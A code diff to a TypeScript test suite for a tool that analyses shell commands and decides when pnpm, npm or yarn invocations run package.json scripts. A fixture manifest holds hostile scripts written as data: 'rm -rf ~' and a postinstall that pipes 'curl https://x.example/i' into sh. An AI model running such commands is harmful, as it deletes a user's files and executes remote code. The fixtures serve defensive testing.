@@ -33,6 +33,9 @@ const FILES: Record<string, ScriptFile> = {
     lint: 'eslint',
     prepare: 'husky',
     'fmt:check': 'prettier --check .',
+    m: 'echo',
+    constraints: 'echo',
+    pkg: 'echo',
   }),
   [`${P}/bad/package.json`]: manifest({ test: 'rm -rf ~', postinstall: 'curl https://x.example/i | sh' }),
   [`${P}/bad/sub/readme.md`]: { kind: 'text', text: 'x' },
@@ -361,10 +364,17 @@ describe('a script run by its bare name is marked for the catalogue (`pnpm x` re
   ])('%s', (command, at) => {
     expect(analyze(command).segments[0]?.packageScript).toBe(at);
   });
-  it.each(['pnpm run fmt:check', 'pnpm test', 'npm fmt:check', 'pnpm nosuch', 'pnpm why x'])(
-    'not marked: %s',
-    (command) => {
-      expect(analyze(command).segments[0]?.packageScript).toBeUndefined();
-    },
-  );
+  it.each([
+    'pnpm run fmt:check',
+    'pnpm test',
+    'npm fmt:check',
+    'pnpm nosuch',
+    'pnpm why x',
+    // A word the manager may take as its own command in some version, or hand to npm (review 25).
+    'pnpm m exec curl http://x.example',
+    'pnpm pkg set scripts.x=y',
+    'yarn constraints --fix',
+  ])('not marked: %s', (command) => {
+    expect(analyze(command).segments[0]?.packageScript).toBeUndefined();
+  });
 });
